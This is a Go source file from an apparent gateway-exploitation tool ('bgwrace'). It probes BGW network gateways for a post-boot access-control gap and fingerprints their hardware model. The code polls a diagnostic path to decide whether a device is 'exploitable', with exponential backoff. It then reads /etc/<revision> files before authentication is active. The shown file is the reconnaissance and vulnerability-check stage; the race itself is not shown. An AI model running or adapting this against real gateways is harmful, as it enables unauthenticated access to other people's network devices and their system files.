// Package probe decides whether a gateway is worth racing: it waits for
// the device to answer at all, checks that the firmware still has the
// post-boot access-control gap, and fingerprints the hardware model.
package probe

import (
	"context"
	"errors"
	"strings"
	"time"

	log "github.com/sirupsen/logrus"

	"github.com/thezakman/bgwrace/pkg/bgw"
)

// Fetcher is the transport the prober drives; *rawhttp.Client satisfies it.
type Fetcher interface {
	Fetch(host string, port int, path string) ([]byte, error)
}

// ErrUnreachable means the device never produced a response across the
// whole retry budget. Distinct from a clean "not exploitable" verdict:
// the device may be off, still booting, or not a BGW at all.
var ErrUnreachable = errors.New("probe: device unreachable, is the BGW online?")

// Prober runs the sequential pre-flight checks. Retries are blocking and
// single-threaded on purpose; backoff here is the point.
type Prober struct {
	Fetcher  Fetcher
	Attempts int
	Sleep    func(time.Duration)
}

// New returns a Prober with the standard three-attempt budget.
func New(f Fetcher) *Prober {
	return &Prober{Fetcher: f, Attempts: 3, Sleep: time.Sleep}
}

// WaitOnline polls the diagnostic path until the device answers or ctx
// is cancelled. Meant to be started before the gateway is even plugged in.
func (p *Prober) WaitOnline(ctx context.Context, host string, port int) error {
	for {
		if _, err := p.Fetcher.Fetch(host, port, bgw.DiagnosticPath); err == nil {
			return nil
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(500 * time.Millisecond):
		}
	}
}

// Exploitable reports whether the firmware serves protected paths before
// auth comes up. Each attempt is preceded by an exponential backoff
// (0s, 2s, 4s). An attempt that yields nothing is skipped, not counted
// as a verdict; the first attempt that yields a body decides the run.
// If every attempt comes back empty the device is presumed offline and
// ErrUnreachable is returned.
func (p *Prober) Exploitable(host string, port int) (bool, error) {
	for i := 0; i < p.Attempts; i++ {
		if d := backoff(i); d > 0 {
			log.WithFields(log.Fields{"attempt": i, "delay": d}).Debug("backing off before probe")
			p.Sleep(d)
		}
		body, err := p.Fetcher.Fetch(host, port, bgw.DiagnosticPath)
		if err != nil {
			log.WithFields(log.Fields{"attempt": i}).Debug("probe attempt yielded nothing")
			continue
		}
		vulnerable := strings.Contains(string(body), bgw.OnlineMarker)
		log.WithFields(log.Fields{"attempt": i, "vulnerable": vulnerable}).Debug("probe decided")
		return vulnerable, nil
	}
	return false, ErrUnreachable
}

// backoff returns 2^attempt seconds, with no wait before the first try.
func backoff(attempt int) time.Duration {
	if attempt == 0 {
		return 0
	}
	return time.Duration(1<<uint(attempt)) * time.Second
}

// DetectModel fingerprints the gateway by fetching /etc/<revision> for
// each known hardware revision. A revision is confirmed when the file
// exists and carries the config marker; revision suffixes collapse onto
// the base model. Returns false if nothing confirms, in which case the
// operator has to force a model.
func (p *Prober) DetectModel(host string, port int) (bgw.Model, bool) {
	for _, candidate := range bgw.Candidates {
		body, err := p.Fetcher.Fetch(host, port, "/etc/"+candidate)
		if err != nil || len(body) == 0 {
			continue
		}
		if !strings.Contains(string(body), bgw.ModelMarker) {
			continue
		}
		model, err := bgw.ModelFromCandidate(candidate)
		if err != nil {
			continue
		}
		log.WithFields(log.Fields{"candidate": candidate, "model": model}).Debug("model confirmed")
		return model, true
	}
	return "", false
}
